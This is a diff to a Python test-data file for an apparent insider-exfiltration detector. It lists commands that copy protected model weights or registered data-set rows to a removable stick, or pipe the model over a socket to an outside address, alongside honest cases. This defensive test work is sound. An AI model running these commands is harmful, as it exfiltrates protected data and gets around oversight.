@@ -2,7 +2,8 @@
 """What an insider tries, and what honest work looks like, as data. Verdicts are observed, never assumed.
 
 Commands run under `bash -c` with: MODEL the protected model, PLAIN an unclassified file, GGUF a conversion that was
-made before the model was registered, WORK a scratch folder on disk, STICK the stick, STRANGER and APPROVED the
+made before the model was registered, ROWS half of a registered data set in another notation, OTHER_ROWS one that nobody
+registered, WORK a scratch folder on disk, STICK the stick, STRANGER and APPROVED the
 addresses outside, CA the receiver's certificate. `prepare` may produce derived files; only `command` is judged.
 """
 from dataclasses import dataclass, replace
@@ -69,9 +70,11 @@ INSIDER = [with_file(way, "$MODEL") for way in WAYS] + [
     Attempt("cat model | Python socket upload", "network", "cat $MODEL | " + PIPED + " $STRANGER", only="fallback",
             missed="it does not follow what passes through a pipe"),
     Attempt("GGUF conversion made before registration", "removable", "cp $GGUF $STICK/"),
+    Attempt("half of a data set's rows, as CSV, made before registration", "removable", "cp $ROWS $STICK/"),
 ]
 
 HONEST = [with_file(way, "$PLAIN", name="unclassified: " + way.name, missed="") for way in WAYS] + [
+    Attempt("rows of another data set", "removable", "cp $OTHER_ROWS $STICK/"),
     Attempt("training: reads the weights, sends 100 KiB of metrics to an approved place", "network",
             TRAIN + " $APPROVED $MODEL"),
 ]
